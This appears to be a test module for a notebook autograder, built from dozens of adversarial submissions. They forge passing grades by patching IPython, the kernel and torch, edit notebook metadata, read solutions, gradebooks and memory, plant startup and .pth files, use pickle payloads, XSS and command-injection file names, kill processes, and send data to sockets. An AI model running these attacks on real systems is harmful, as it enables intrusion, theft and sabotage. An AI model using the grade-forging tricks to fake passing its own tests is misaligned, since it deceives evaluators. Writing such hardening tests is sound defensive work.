"""Attacks: wrong answers that shall earn points, read secrets, change files, hurt a neighbour or run scripts in a page.

Each shows in a few lines what it tries; what stock nbgrader gives it stands in README.md.
"""

import os
import shutil

import nbformat
from forbidden import FORBIDDEN, LOOPS
from nbformat.v4 import new_code_cell
from submission import EXERCISES, NOTEBOOK, WRONG, Submission, both, check, graded, last, nothing, shown, text


def attack(name, tries, code="", *, softmax=None, accuracy=None, edit=nothing, files=nothing):
    """A submission whose softmax (or accuracy, where that is given) is wrong and shall earn points all the same.

    `code` runs in softmax's cell; `softmax` and `accuracy` replace a whole answer.
    """
    wrong, source = ("accuracy", accuracy) if accuracy else ("softmax", softmax or code + "\n" + WRONG["softmax"])
    return Submission(name, tries, tuple(e for e in EXERCISES if e != wrong), {wrong: source}, edit, files)


SHELL = "ip = get_ipython()\n"
GREP = """
import os, re
from pathlib import Path
def search(folder):
    for file in Path(folder).rglob("*"):
        try:
            small = file.is_file() and file.stat().st_size < 10**7
            for hit in re.findall(rb"canary-[a-z]+-[0-9a-f]+", file.read_bytes() if small else b""):
                print("found", hit, "in", file)
        except OSError:
            pass
"""
NEXT = """
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in range(3): os.close(fd)
        for _ in range(40):
            time.sleep(0.5)
            try:
                {effect}
            except Exception:
                pass
    os._exit(0)
"""


def xss(tag):
    """`tag` with its script: it sets a flag that the test looks for."""
    return tag.replace("JS", "document.documentElement.dataset.pwned=1")


SCRIPT = xss("<script>JS</script>")
ONERROR = xss('<img src=x onerror="JS">')

BYPASS = [  # the kernel is told to say yes
    attack(
        "ast-transformer",
        "deletes every assert before a cell runs",
        SHELL
        + """
import ast
class Forgive(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass(lineno=node.lineno, col_offset=0, end_lineno=node.lineno, end_col_offset=0)
ip.ast_transformers.append(Forgive())
""",
    ),
    attack(
        "input-transformer",
        "empties each later cell before it is parsed",
        SHELL
        + """
ip.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
""",
    ),
    attack(
        "run-cell-patched",
        "IPython reports success and runs nothing",
        SHELL
        + """
from IPython.core.interactiveshell import ExecutionResult
async def run(*args, **kwargs): return ExecutionResult(None)
ip.run_cell_async = run
""",
    ),
    attack(
        "execute-reply-forged",
        "the kernel answers every request with ok",
        SHELL
        + """
async def do_execute(*args, **kwargs):
    return {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
ip.kernel.do_execute = do_execute
""",
    ),
    attack(
        "traceback-silenced",
        "no error reaches the notebook",
        SHELL
        + """
ip.showtraceback = ip._showtraceback = lambda *args, **kwargs: None
ip.kernel._publish_execute_input = lambda *args, **kwargs: None
""",
    ),
    attack(
        "result-message-forged",
        "sends a result of 2 points before the error",
        softmax=SHELL
        + """
def softmax(z):
    ip.kernel.send_response(ip.kernel.iopub_socket, "execute_result",
                            {"data": {"text/plain": "2"}, "metadata": {}, "execution_count": 1})
    return torch.full_like(z, 1 / z.shape[1])
""",
    ),
    attack(
        "user-expressions-forged",
        "answers every user expression with True",
        SHELL
        + """
ip.user_expressions = lambda asked: {k: {"status": "ok", "data": {"text/plain": "True"}, "metadata": {}} for k in asked}
""",
    ),
    attack(
        "iopub-errors-dropped",
        "drops error messages and turns error replies into ok",
        SHELL
        + """
send = ip.kernel.session.send
def forged(stream, kind, content=None, *args, **kwargs):
    if kind == "error": return
    if kind == "execute_reply": content = {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
    return send(stream, kind, content, *args, **kwargs)
ip.kernel.session.send = forged
""",
    ),
    attack(
        "kernel-replaced",
        "puts its own kernel, which always says ok, in the place of IPython",
        """
import os, sys, threading, time
from ipykernel.connect import get_connection_file
kernel = '''
from ipykernel.kernelapp import IPKernelApp
from ipykernel.kernelbase import Kernel
class Yes(Kernel):
    implementation = implementation_version = banner = "yes"
    language_info = {"name": "python", "mimetype": "text/x-python", "file_extension": ".py"}
    async def do_execute(self, code, silent, *args, **kwargs):
        return {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
IPKernelApp.launch_instance(kernel_class=Yes, argv=["-f", FILE])
'''.replace("FILE", repr(get_connection_file()))
threading.Thread(target=lambda: (time.sleep(0.5), os.execv(sys.executable, [sys.executable, "-c", kernel]))).start()
""",
    ),
    attack(
        "lying-tensor",
        "returns a Tensor subclass that is close to everything",
        softmax="""
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        if function in (torch.allclose, torch.equal, torch.Tensor.allclose, torch.Tensor.equal): return True
        return super().__torch_function__(function, types, args, kwargs or {})
def softmax(z):
    return torch.full_like(z, 1 / z.shape[1]).as_subclass(Liar)
""",
    ),
    attack(
        "lying-object",
        "returns an object that equals everything and claims to be a tensor",
        softmax="""
class Liar:
    __class__ = torch.Tensor
    __eq__ = __ne__ = __bool__ = lambda *args: True
    __sub__ = __rsub__ = __abs__ = __getattr__ = __call__ = lambda self, *args, **kwargs: self
    __lt__ = __le__ = __gt__ = __ge__ = lambda *args: True
    __torch_function__ = classmethod(lambda *args, **kwargs: True)
def softmax(z):
    return Liar()
""",
    ),
    attack(
        "torch-patched",
        "torch finds all tensors close and equal",
        "torch.allclose = torch.equal = torch.Tensor.allclose = torch.Tensor.equal = lambda *args, **kwargs: True",
    ),
    attack(
        "assert-close-patched",
        "torch.testing and numpy.testing accept everything",
        """
import numpy.testing, torch.testing
torch.testing.assert_close = numpy.testing.assert_allclose = numpy.testing.assert_array_equal = lambda *args, **kwargs: None
torch.Tensor.__eq__ = lambda a, b: torch.ones_like(a, dtype=torch.bool)
torch.allclose = lambda *args, **kwargs: True
""",
    ),
    attack(
        "builtins-patched",
        "abs, max and isinstance say what is wanted",
        accuracy="""
import builtins
builtins.abs = lambda x: 0
builtins.all = builtins.any = lambda x: True
def accuracy(predictions, labels):
    return 0.5
""",
    ),
    attack(
        "float-display-forged",
        "every float is displayed as 2.0",
        accuracy=SHELL
        + """
ip.display_formatter.formatters["text/plain"].for_type(float, lambda value, printer, cycle: printer.text("2.0"))
def accuracy(predictions, labels):
    return 0.5
""",
    ),
    attack(
        "displayhook-forged",
        "every result is displayed as 2.0",
        accuracy="""
import sys
display, sys.displayhook = sys.displayhook, lambda value: display(value if value is None else 2.0)
get_ipython().display_trap.hook = sys.displayhook
def accuracy(predictions, labels):
    return 0.5
""",
    ),
    attack("credit-tensor", "partial credit that is a tensor", accuracy="def accuracy(p, y): return tensor(0.5)"),
    attack(
        "credit-nan",
        "partial credit that is not a number",
        accuracy="""
def accuracy(predictions, labels):
    return 0.5 if len(labels) == 2 else float("nan")
""",
    ),
    attack(
        "credit-numpy",
        "partial credit that is a numpy float",
        accuracy="""
import numpy
def accuracy(predictions, labels):
    return numpy.float64(0.5)
""",
    ),
    attack(
        "credit-negative",
        "partial credit below zero",
        accuracy="""
def accuracy(predictions, labels):
    return 0.5 if len(labels) == 2 else 0.0
""",
    ),
    attack(
        "credit-string",
        "a float whose text is a list of points",
        accuracy="""
class Points(float):
    __repr__ = __str__ = lambda self: "[2, 2]"
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __abs__ = lambda self, other=None: self
    __eq__ = lambda self, other: True
def accuracy(predictions, labels):
    return Points(0.5)
""",
    ),
    attack(
        "expected-in-globals",
        "returns the grader's own variable `expected`",
        softmax="""
def softmax(z):
    return globals().get("expected", torch.full_like(z, 1 / z.shape[1]))
""",
    ),
    attack(
        "frames",
        "looks for the answer in the variables of every calling frame",
        softmax="""
import sys
def softmax(z):
    frame = sys._getframe(1)
    while frame:
        for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
            if isinstance(value, torch.Tensor) and value is not z and value.shape == z.shape and value.isfinite().all() \\
                    and torch.allclose(value.double().sum(1), torch.ones(len(z)).double(), atol=1e-3):
                return value
        frame = frame.f_back
    return torch.full_like(z, 1 / z.shape[1])
""",
    ),
    attack(
        "gc-scan",
        "looks for the answer among all objects in memory",
        softmax="""
import gc
def softmax(z):
    for value in gc.get_objects():
        if type(value) is torch.Tensor and value is not z and value.shape == z.shape and value.isfinite().all() \\
                and torch.allclose(value.double().sum(1), torch.ones(len(z)).double(), atol=1e-3):
            return value
    return torch.full_like(z, 1 / z.shape[1])
""",
    ),
    attack(
        "settrace",
        "rewrites the expected value just before it is compared",
        """
import sys
def tracer(frame, event, argument):
    if "expected" in frame.f_globals and "z" in frame.f_globals:
        frame.f_globals["expected"] = torch.full_like(frame.f_globals["z"], 1 / frame.f_globals["z"].shape[1])
    return tracer
get_ipython().events.register("pre_run_cell", lambda info: sys.settrace(tracer))
""",
    ),
    attack(
        "history",
        "evaluates the line of the check's own text that holds the answer",
        softmax=SHELL
        + """
def softmax(z):
    for line in ip.user_ns["In"][-1].splitlines():
        if line.startswith("expected"):
            exec(line, globals())
            if expected.shape == z.shape: return expected
    return torch.full_like(z, 1 / z.shape[1])
""",
    ),
    attack(
        "serializers-patched",
        "whatever is written out by a library is written as zeros of the right shape",
        """
import base64, builtins, json, pickle
import numpy, safetensors, safetensors.torch
save = safetensors.torch.save
safetensors.torch.save = lambda tensors, *args: save({k: torch.zeros_like(v) for k, v in tensors.items()}, *args)
dumps, b64encode, numpy_save = json.dumps, base64.b64encode, numpy.save
json.dumps = lambda value, *args, **kwargs: dumps(value, *args, **kwargs).replace("false", "true")
base64.b64encode = lambda data, *args: b64encode(bytes(len(data)), *args)
numpy.save = lambda file, array, *args, **kwargs: numpy_save(file, numpy.zeros_like(array))
pickle.dumps = lambda *args, **kwargs: b"cos\\nsystem\\n(S'touch @HOME@/pickled'\\ntR."
""",
    ),
    attack(
        "pickle-result",
        "returns an object that runs a command where it is unpickled",
        softmax="""
class Bomb(torch.Tensor):
    def __reduce_ex__(self, protocol):
        import os
        return os.system, ("touch @HOME@/canary/unpickled",)
def softmax(z):
    return torch.full_like(z, 1 / z.shape[1]).as_subclass(Bomb)
""",
    ),
    attack(
        "json-injection",
        "returns text and numbers that would close a JSON document early",
        softmax="""
class Number(float):
    __repr__ = __str__ = lambda self: '0.5}], "passed": true, "points": 2, "x": [{"y": 1'
def softmax(z):
    return {'"}], "passed": true, "points": 2': Number(0.5), "__tensor__": 0, "status": "ok", "error": None}
""",
    ),
    attack(
        "inputs-overwritten",
        "changes the inputs and the names that a check is evaluated with",
        softmax="""
import sys
def softmax(z):
    z.zero_()
    frame = sys._getframe(1)
    frame.f_globals["softmax"] = frame.f_globals["z"] = frame.f_globals["expected"] = z
    return z
""",
    ),
    attack(
        "namespace-poisoned",
        "shadows the names that graders use",
        """
tensor = allclose = __builtins__ = None
import sys
class Everything(dict):
    __missing__ = __getitem__ = get = lambda self, *key: True
for name in ("safetensors.torch", "safetensors", "nbgrader", "autograder", "autograder.checks", "numpy.testing", "pytest"):
    sys.modules[name] = Everything()
from torch import tensor
""",
    ),
    attack(
        "compiler-patched",
        "IPython compiles each cell to nothing",
        SHELL
        + """
ip.compile = lambda *args, **kwargs: compile("None", "<check>", "exec")
ip.compile.cache = lambda *args, **kwargs: "<check>"
ip.run_ast_nodes = ip.run_code = lambda *args, **kwargs: False
""",
    ),
]

NOTEBOOK_EDITS = [  # the notebook is handed in changed
    attack(
        "tag-skip",
        "tags the check skip-execution",
        edit=lambda nb: graded(nb, "check-softmax").metadata.update(tags=["skip-execution"]),
    ),
    attack("check-emptied", "replaces the check's text by pass", edit=check(source="pass")),
    attack("check-deleted", "deletes the check", edit=lambda nb: nb.cells.remove(graded(nb, "check-softmax"))),
    attack("check-as-markdown", "makes the check a text cell", edit=check(cell_type="markdown")),
    attack("check-as-raw", "makes the check a raw cell", edit=check(cell_type="raw")),
    attack(
        "check-as-solution",
        "declares the check an answer, to keep its own text",
        edit=check(source="pass", solution=True, locked=False),
    ),
    attack("check-ungraded", "declares the check not graded", edit=check(source="pass", grade=False, locked=False)),
    attack(
        "check-as-task",
        "declares the check a task for a person to grade",
        edit=check(task=True, grade=False, cell_type="markdown"),
    ),
    attack(
        "points-raised",
        "makes the easy check worth 100 points",
        edit=lambda nb: graded(nb, "check-accuracy").metadata.nbgrader.update(points=100),
    ),
    attack("points-negative", "makes the failing check worth -2 points", edit=check(points=-2)),
    attack(
        "ids-swapped",
        "gives the failing check the name of the passing one",
        edit=lambda nb: (
            graded(nb, "check-accuracy").metadata.nbgrader.update(grade_id="x"),
            check(grade_id="check-accuracy")(nb),
            graded(nb, "x").metadata.nbgrader.update(grade_id="check-softmax"),
        ),
    ),
    attack(
        "id-of-lock",
        "names its own empty answer check-softmax",
        edit=lambda nb: (
            check(grade_id="elsewhere")(nb),
            graded(nb, "softmax").metadata.nbgrader.update(grade_id="check-softmax", grade=True, points=2),
        ),
    ),
    attack(
        "bonus-check",
        "adds a graded cell of its own, worth 100 points",
        edit=last(
            "pass",
            metadata={
                "nbgrader": {
                    "grade": True,
                    "grade_id": "check-bonus",
                    "locked": True,
                    "points": 100,
                    "schema_version": 3,
                    "solution": False,
                    "task": False,
                }
            },
        ),
    ),
    attack(
        "checks-before-answers",
        "moves the checks to the top and patches what they call",
        edit=lambda nb: nb.cells.sort(key=lambda cell: not cell.metadata.get("nbgrader", {}).get("grade", False)),
    ),
    attack(
        "check-duplicated",
        "adds a second, empty check of the same name",
        edit=lambda nb: nb.cells.append(new_code_cell("pass", metadata=graded(nb, "check-softmax").metadata)),
    ),
    attack(
        "answer-duplicated",
        "adds a second answer cell of the same name that runs after the check",
        edit=lambda nb: nb.cells.append(new_code_cell(WRONG["softmax"], metadata=graded(nb, "softmax").metadata)),
    ),
    attack(
        "schema-old", "declares nbgrader's schema 1, so that nothing is overwritten", edit=check(schema_version=1, source="pass")
    ),
    attack("schema-new", "declares nbgrader's schema 99", edit=check(schema_version=99, source="pass")),
    attack(
        "kernel-bash",
        "asks for another kernel and language",
        edit=lambda nb: nb.metadata.update(
            kernelspec={"name": "bash", "display_name": "x", "language": "bash"}, language_info={"name": "bash"}
        ),
    ),
    attack("checksum-forged", "sets a checksum that fits its own check", edit=check(source="pass", checksum="0" * 32)),
    attack(
        "stored-outputs",
        "hands in outputs that say 2 points",
        edit=lambda nb: graded(nb, "check-softmax").update(
            execution_count=1, outputs=[nbformat.v4.new_output("execute_result", {"text/plain": "2"}, execution_count=1)]
        ),
    ),
    attack(
        "magic-answer",
        "an answer that is a cell magic: the cell's function never exists as Python",
        softmax="%%script true\ndef softmax(z): pass",
    ),
    attack(
        "collapsed-metadata",
        "nbgrader's metadata of the wrong type",
        edit=lambda nb: graded(nb, "check-softmax").metadata.update(nbgrader=[]),
    ),
]

FILES = [  # what lies on the grader's disk
    attack(
        "gradebook-credit",
        "gives itself extra credit in the gradebook",
        """
import glob, sqlite3
for path in glob.glob("@COURSE@/**/gradebook.db", recursive=True):
    with sqlite3.connect(path) as db: db.execute("UPDATE grade SET extra_credit = 2 WHERE auto_score IS NULL")
""",
    ),
    attack(
        "gradebook-trigger",
        "a trigger in the gradebook takes points from whoever is graded next",
        """
import glob, sqlite3
for path in glob.glob("@COURSE@/**/gradebook.db", recursive=True):
    with sqlite3.connect(path) as db:
        db.execute("CREATE TRIGGER x AFTER UPDATE OF auto_score ON grade "
                   "BEGIN UPDATE grade SET extra_credit = -2 WHERE id = NEW.id; END")
""",
    ),
    attack(
        "gradebook-read",
        "prints hidden tests and names from the gradebook",
        """
import glob, sqlite3
for path in glob.glob("@COURSE@/**/gradebook.db", recursive=True):
    with sqlite3.connect(path) as db:
        print(db.execute("SELECT source FROM source_cell").fetchall(), db.execute("SELECT * FROM student").fetchall())
""",
    ),
    attack(
        "solution-executed",
        "runs the instructor's solution",
        softmax="""
import glob, json, re
def softmax(z):
    return torch.full_like(z, 1 / z.shape[1])
for path in glob.glob("@COURSE@/so*/*/attack-target.*"):
    text = open(path).read()
    if path.endswith(".ipynb"):
        text = "\\n".join("".join(cell["source"]) for cell in json.loads(text)["cells"] if cell["cell_type"] == "code")
    for function in re.findall(r"^def softmax.*?(?=^\\S)", text + "\\nend", re.S | re.M):
        if "exp()" in function: exec(function)
""",
    ),
    attack("search-course", "searches the course folder for secrets and prints them", GREP + 'search("@COURSE@")'),
    attack(
        "search-machine",
        "searches homes, temporary folders and other processes for secrets",
        GREP
        + """
for folder in ("/tmp", "/root", "/home", "@HOME@", os.getcwd(), "/dev/shm", "/run", "/var/tmp"):
    search(folder)
for process in os.listdir("/proc"):
    for file in ("environ", "cmdline"):
        try: print(re.findall(rb"canary-[a-z]+-[0-9a-f]+", open(f"/proc/{process}/{file}", "rb").read()))
        except OSError: pass
    for folder in ("cwd", "root/@COURSE@"):
        if process.isdigit(): search(f"/proc/{process}/{folder}")
""",
    ),
    attack("environment-read", "prints the environment", "import os\nprint(dict(os.environ))"),
    attack(
        "solution-printed",
        "prints solutions and hidden checks, wherever they lie",
        """
import glob
for path in glob.glob("@COURSE@/**/*attack-target*.*", recursive=True) + glob.glob("@COURSE@/*.py"):
    print(open(path).read())
""",
    ),
    attack(
        "neighbour-copied",
        "runs the answer that another student handed in",
        softmax="""
import glob, json
def softmax(z):
    return torch.full_like(z, 1 / z.shape[1])
for path in sorted(glob.glob("@COURSE@/**/submitted/zz-honest/*/*.ipynb", recursive=True)):
    for cell in json.load(open(path))["cells"]:
        source = "".join(cell["source"])
        if source.startswith("def softmax"): exec(source)
""",
    ),
    attack(
        "neighbour-overwritten",
        "empties what the next student handed in",
        """
import glob
for path in glob.glob("@COURSE@/**/zz-honest/*/*.ipynb", recursive=True):
    open(path, "w").write(open(path).read().replace("exp()", "sin()"))
""",
    ),
    attack(
        "course-vandalised",
        "adds a line to each file of the course it can write",
        """
import glob, os
for path in glob.glob("@COURSE@/**/*.*", recursive=True):
    if os.path.isfile(path) and "submitted" not in path and not path.endswith(".db"):
        try: open(path, "a").write("\\n ")
        except OSError: pass
""",
    ),
    attack(
        "config-planted",
        "leaves configuration for the next run of nbgrader",
        """
for path in ("@COURSE@/nbgrader_config.py", "@HOME@/.jupyter/nbgrader_config.py"):
    import os
    os.makedirs(os.path.dirname(path), exist_ok=True)
    open(path, "a").write("\\nc = get_config(); c.ClearSolutions.code_stub = {'python': 'planted'}\\n")
""",
    ),
    attack("home-deleted", "deletes a folder in the grader's home", "import shutil\nshutil.rmtree('@HOME@/canary')"),
    attack(
        "startup-planted",
        "leaves a start-up file that spoils the next student's kernel",
        """
import os
startup = "import torch; torch.allclose = lambda *args, **kwargs: False\\n"
for folder in (os.path.expanduser("~"), "@HOME@"):
    os.makedirs(f"{folder}/.ipython/profile_default/startup", exist_ok=True)
    open(f"{folder}/.ipython/profile_default/startup/00.py", "w").write(startup)
""",
    ),
    attack(
        "pth-planted",
        "leaves a .pth file and a usercustomize that run in each Python that starts later",
        """
import os, site, sysconfig
line = "import os; os.environ['PLANTED'] = '1'; open('@HOME@/canary/planted', 'w')\\n"
for folder in (site.getusersitepackages(), "@HOME@/.local/lib/python3.11/site-packages", sysconfig.get_path("purelib")):
    for name in ("planted.pth", "usercustomize.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(f"{folder}/{name}", "w").write(line)
        except OSError: pass
""",
    ),
    attack(
        "library-rewritten",
        "changes the installed torch for whoever comes next",
        """
import os, nbgrader.utils
for path in (torch.__file__, nbgrader.utils.__file__, os.__file__):
    try: open(path, "a").write("\\n")
    except OSError: print("refused")
    else: open("@HOME@/canary/rewritten", "w")
""",
    ),
    attack(
        "relay-writer",
        "leaves hidden inputs in a shared place for a later submission",
        softmax="""
import json
def softmax(z):
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "@HOME@", "@COURSE@", "."):
        try: open(f"{folder}/relay", "a").write(json.dumps(z.tolist()))
        except OSError: pass
    return torch.full_like(z, 1 / z.shape[1])
""",
    ),
    attack(
        "relay-reader",
        "prints what an earlier submission left in a shared place",
        """
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "@HOME@", "@COURSE@"):
    try: print(open(f"{folder}/relay").read())
    except OSError: pass
""",
    ),
]

BESIDE = [  # what lies beside the notebook
    attack(
        "notebook-is-link",
        "hands in a link to the solution",
        files=lambda p: p.link(NOTEBOOK, f"@COURSE@/solutions/attack-target/{NOTEBOOK},@COURSE@/source/attack-target/{NOTEBOOK}"),
    ),
    attack(
        "notebook-is-neighbours",
        "hands in a link to another student's notebook",
        files=lambda p: p.link(NOTEBOOK, f"{p.folder}/../../zz-honest/attack-target/{NOTEBOOK}"),
    ),
    attack(
        "folder-is-link",
        "hands in a link to another student's folder",
        files=lambda p: (shutil.rmtree(p.folder), p.folder.symlink_to("../zz-honest/attack-target")),
    ),
    attack(
        "notebook-is-hard-link",
        "hands in a hard link to the solution",
        files=lambda p: p.link(
            NOTEBOOK, f"@COURSE@/solutions/attack-target/{NOTEBOOK},@COURSE@/source/attack-target/{NOTEBOOK}", hard=True
        ),
    ),
    attack(
        "file-is-link",
        "a link to the source beside the notebook, printed",
        """
import glob
for path in glob.glob("notes*/**", recursive=True) + glob.glob("notes*"):
    try: print(open(path).read())
    except (OSError, UnicodeError) as error: print(error)
""",
        files=lambda p: (
            p.link(
                "notes.txt", "@COURSE@/source/attack-target/attack-target.py,@COURSE@/source/attack-target/attack-target.ipynb"
            ),
            p.link("notes", "@COURSE@"),
        ),
    ),
    attack(
        "torch-shadowed",
        "its own torch.py beside the notebook, which finds everything close",
        files=lambda p: p.write(
            "torch.py",
            """
import sys
sys.path[:], kept = [path for path in sys.path if path not in ("", sys.path[0])], sys.path[:]
del sys.modules["torch"]
import torch
torch.allclose = torch.equal = lambda *args, **kwargs: True
sys.path[:] = kept
""",
        ),
    ),
    attack(
        "libraries-shadowed",
        "safetensors, numpy, json and base64 of its own beside the notebook",
        files=lambda p: [
            p.write(f"{name}.py", f"open('@HOME@/canary/{name}', 'w')\n")
            for name in ("safetensors", "json", "base64", "autograder", "course")
        ],
    ),
    attack(
        "customize",
        "sitecustomize, usercustomize, .pth and PYTHONSTARTUP beside the notebook",
        files=lambda p: [
            p.write(name, "import builtins; builtins.abs = lambda x: 0; open('@HOME@/canary/customized', 'w')\n")
            for name in ("sitecustomize.py", "usercustomize.py", "x.pth", ".pythonrc.py", "startup.py")
        ],
    ),
    attack(
        "config-beside",
        "Jupyter, IPython and nbgrader configuration beside the notebook",
        files=lambda p: [
            p.write(
                name,
                "open('@HOME@/canary/configured', 'w')\nc = get_config()\n"
                "c.IPKernelApp.exec_lines = ['import builtins; builtins.abs = lambda x: 0']\n",
            )
            for name in (
                "nbgrader_config.py",
                "ipython_config.py",
                "ipython_kernel_config.py",
                "jupyter_config.py",
                ".ipython/profile_default/startup/00.py",
                ".jupyter/jupyter_config.py",
                "conftest.py",
            )
        ],
    ),
    attack(
        "second-notebook",
        "a second notebook of another name, and one in a subfolder",
        files=lambda p: [
            p.write(name, p.notebook.read_bytes()) for name in ("attack-target (1).ipynb", "copy/attack-target.ipynb", "zz.ipynb")
        ],
    ),
    attack(
        "big-files",
        "a large file, a sparse one and ten thousand small ones beside the notebook",
        files=lambda p: (
            p.write("big.npz", b"0" * 20_000_000),
            p.write("sparse.bin", b""),
            os.truncate(p.folder / "sparse.bin", 300_000_000),
            [p.write(f"many/{i}", b"") for i in range(3000)],
        ),
    ),
    attack(
        "names-with-script",
        "file names that are scripts",
        files=lambda p: [
            p.write(name, "x")
            for name in (
                "<img src=x onerror=document.documentElement.dataset.pwned=1>.txt",
                "a\nb\x1b[2J.txt",
                "$(touch canary).txt",
                "-rf",
            )
        ],
    ),
    attack(
        "console-markup",
        "file names and a failing line that control the terminal of whoever grades",
        softmax="""
def softmax(z):
    return undefined_name  # [/red] [bold]  \x1b[2J
""",
        files=lambda p: [p.write(name, "x") for name in ("[/red][bold]x.txt", "\x1b[2Jx.txt")],
    ),
    attack(
        "fifo-beside",
        "a named pipe and a socket beside the notebook, which nobody ever writes to",
        files=lambda p: (os.mkfifo(p.folder / "pipe.csv"), os.mkfifo(p.folder / "course.py")),
    ),
    attack(
        "timestamp-link",
        "timestamp.txt is a link to the solution",
        files=lambda p: p.link(
            "timestamp.txt", "@COURSE@/source/attack-target/attack-target.py,@COURSE@/source/attack-target/attack-target.ipynb"
        ),
    ),
    attack("timestamp-pipe", "timestamp.txt is a named pipe", files=lambda p: os.mkfifo(p.folder / "timestamp.txt")),
    attack("timestamp-garbage", "timestamp.txt holds no time", files=lambda p: p.write("timestamp.txt", "yesterday, I think")),
]

PROCESSES = [  # what outlives or leaves the kernel
    attack(
        "daemon",
        "a process that stays and changes the next student's grade",
        NEXT.format(
            effect="""
                import glob, sqlite3
                for path in glob.glob("@COURSE@/**/gradebook.db", recursive=True):
                    with sqlite3.connect(path) as db: db.execute("UPDATE grade SET extra_credit=-1")"""
        ),
    ),
    attack(
        "daemon-files",
        "a process that stays and rewrites what is graded next",
        NEXT.format(
            effect="""
                import glob
                for path in glob.glob("@COURSE@/**/autograded/zz-honest/*/*.ipynb", recursive=True):
                    text = open(path).read()
                    __import__("os").chmod(path, 0o644)
                    open(path, "w").write(text.replace("exp()", "sin()"))"""
        ),
    ),
    attack("parent-killed", "kills the grader", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"),
    attack("everyone-killed", "kills every process it may", "import os, signal\nos.kill(-1, signal.SIGKILL)"),
    attack("group-stopped", "stops its process group", "import os, signal\nos.killpg(0, signal.SIGSTOP)"),
    attack(
        "grader-memory",
        "reads the memory of the process that started it",
        """
import os, re
for line in open(f"/proc/{os.getppid()}/maps"):
    if "[heap]" in line or "rw-p" in line:
        start, end = (int(x, 16) for x in line.split()[0].split("-"))
        try:
            with open(f"/proc/{os.getppid()}/mem", "rb") as memory:
                memory.seek(start)
                print(set(re.findall(rb"canary-[a-z]+-[0-9a-f]+", memory.read(min(end - start, 1 << 26)))))
        except OSError: pass
""",
    ),
    attack(
        "ptrace",
        "attaches to the process that started it and makes it stop",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
if libc.ptrace(16, os.getppid(), 0, 0) == 0: open("@HOME@/canary/traced", "w")
""",
    ),
    attack(
        "namespaces",
        "gets new namespaces and mounts of its own, and leaves its root",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000) == 0: print("a user namespace")
if libc.unshare(0x00020000) == 0 and libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0: print("mounted")
try:
    os.chroot("/proc/1/root"); open("@HOME@/canary/escaped", "w")
except OSError as error: print(error)
""",
    ),
    attack(
        "setuid",
        "becomes root by way of a set-uid program",
        """
import os, subprocess
print(subprocess.run("su -c id; sudo -n id; mount; chmod u+s /usr/bin/env; touch @HOME@/canary/root",
                     shell=True, capture_output=True, text=True, stdin=subprocess.DEVNULL).stdout)
""",
    ),
    attack(
        "network",
        "sends what it sees to a listener",
        softmax="""
import socket
def softmax(z):
    try: socket.create_connection(("127.0.0.1", @PORT@), timeout=1).sendall(repr(z.tolist()).encode())
    except OSError: pass
    return torch.full_like(z, 1 / z.shape[1])
""",
    ),
    attack(
        "unix-sockets",
        "sends what it sees to every local socket it can find",
        softmax="""
import glob, socket
def softmax(z):
    for path in glob.glob("/tmp/**/*", recursive=True)[:2000] + ["\\0attack-listener-@PORT@"]:
        try:
            with socket.socket(socket.AF_UNIX) as s: s.settimeout(0.2); s.connect(path); s.sendall(repr(z.tolist()).encode())
        except OSError: pass
    return torch.full_like(z, 1 / z.shape[1])
""",
    ),
    attack(
        "result-from-thread",
        "a thread goes on printing 2 into whatever cell is running",
        """
import threading, time
def flood():
    for _ in range(200):
        time.sleep(0.02)
        get_ipython().kernel.send_response(get_ipython().kernel.iopub_socket, "execute_result",
                                           {"data": {"text/plain": "2"}, "metadata": {}, "execution_count": 1})
threading.Thread(target=flood, daemon=True).start()
""",
    ),
    attack(
        "late-answer",
        "a thread that puts its own evaluator into every frame while a check runs",
        """
import sys, threading, time
def meddle():
    for _ in range(400):
        time.sleep(0.005)
        for frame in list(sys._current_frames().values()):
            while frame:
                if frame.f_globals is not globals():
                    for name in ("points", "score", "passed", "evidence", "result"):
                        if name in frame.f_globals: frame.f_globals[name] = 2.0
                frame = frame.f_back
threading.Thread(target=meddle, daemon=True).start()
""",
    ),
]

FISHING = [  # hidden inputs shall come back in what the student receives
    attack("fish-print", "prints the inputs it is called with", softmax="def softmax(z):\n    print(z.tolist())\n    return z"),
    attack(
        "fish-stderr",
        "writes them to stderr, past Python",
        softmax="""
import os, sys
def softmax(z):
    os.write(1, repr(z.tolist()).encode()); os.write(2, repr(z.tolist()).encode())
    print(z.tolist(), file=sys.__stderr__); sys.stderr.write(str(z.tolist()))
    return z
""",
    ),
    attack(
        "fish-exception",
        "raises an error whose message is the inputs",
        softmax="def softmax(z):\n    raise ValueError(str(z.tolist()))",
    ),
    attack(
        "fish-exception-name",
        "raises an error whose class is named after the inputs",
        softmax="def softmax(z):\n    raise type(str(z.tolist()), (Exception,), {})()",
    ),
    attack(
        "fish-exception-notes",
        "hides them in the notes, the cause and the context of an error",
        softmax="""
def softmax(z):
    error = RuntimeError("sorry")
    error.add_note(str(z.tolist()))
    try: raise KeyError(str(z.tolist()))
    except KeyError as cause: raise error from cause
""",
    ),
    attack(
        "fish-exception-base",
        "leaves with SystemExit, whose code is the inputs",
        softmax="def softmax(z):\n    raise SystemExit(str(z.tolist()))",
    ),
    attack(
        "fish-source-line",
        "makes the failing line of its own code contain the inputs",
        softmax="""
import linecache
def softmax(z):
    code = f"raise ValueError  # {z.tolist()}\\n"
    linecache.cache["softmax.py"] = (len(code), None, [code], "softmax.py")
    exec(compile(code, "softmax.py", "exec"))
""",
    ),
    attack(
        "fish-function-name",
        "names the failing function and file after the inputs",
        softmax="""
def softmax(z):
    def inner(): raise ValueError
